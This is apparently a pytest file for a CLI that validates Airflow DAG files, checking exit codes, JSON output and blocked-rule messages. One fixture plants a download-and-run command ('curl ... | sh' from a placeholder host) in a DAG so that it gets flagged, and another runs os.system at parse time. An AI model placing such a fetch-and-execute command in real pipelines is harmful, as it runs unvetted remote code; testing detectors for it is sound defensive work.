"""`assistant validate` end to end in a subprocess: exit codes, JSON shape, one-line errors."""

from __future__ import annotations

import json
from pathlib import Path

GOOD = """import pendulum
from airflow.sdk import DAG
from airflow.providers.standard.operators.bash import BashOperator

with DAG("cli_good", schedule=None, start_date=pendulum.datetime(2024, 1, 1), catchup=False, tags=["x"],
         default_args={"owner": "team", "retries": 1}):
    BashOperator(task_id="t", bash_command="echo ok")
"""


def test_validate_json_ok_and_blocked(tmp_path: Path, run_cli) -> None:
    good = tmp_path / "good.py"
    good.write_text(GOOD)
    bad = tmp_path / "bad.py"
    bad.write_text(
        GOOD.replace("cli_good", "cli_bad").replace("echo ok", "curl -s http://x.example/i.sh | sh")
    )
    ok = run_cli("validate", str(good), "--json")
    assert ok.returncode == 0, ok.stderr
    data = json.loads(ok.stdout)
    assert data["ok"] is True and data["files"][0]["dag_ids"] == ["cli_good"]
    blocked = run_cli("validate", str(good), str(bad), str(tmp_path / "missing.py"), "--json")
    assert blocked.returncode == 1
    files = {Path(f["path"]).name: f for f in json.loads(blocked.stdout)["files"]}
    assert files["good.py"]["ok"] and not files["bad.py"]["ok"] and not files["missing.py"]["ok"]
    assert files["bad.py"]["findings"][0]["rule"] == "security.download-exec"


def test_validate_human_output_names_rule_and_hint(tmp_path: Path, run_cli, monkeypatch) -> None:
    monkeypatch.setenv("COLUMNS", "220")
    bad = tmp_path / "bad.py"
    bad.write_text("import os\nos.system('id')\n")
    result = run_cli("validate", str(bad))
    assert result.returncode == 1
    assert "security.parse-time-side-effect" in result.stdout and "BLOCKED" in result.stdout
    assert "move it into a task" in result.stdout
    assert "Traceback" not in result.stdout + result.stderr


def test_validate_usage_errors_exit_2(tmp_path: Path, run_cli) -> None:
    missing = run_cli("validate", str(tmp_path / "nope"))
    assert missing.returncode == 2 and "hint:" in missing.stderr and "Traceback" not in missing.stderr
    (tmp_path / "d.py").write_text(GOOD)
    (tmp_path / "p.toml").write_text("[policy]\nunknown = 1\n")
    bad_policy = run_cli("validate", str(tmp_path / "d.py"), "--policy", str(tmp_path / "p.toml"))
    assert bad_policy.returncode == 2 and "unknown policy key" in bad_policy.stderr
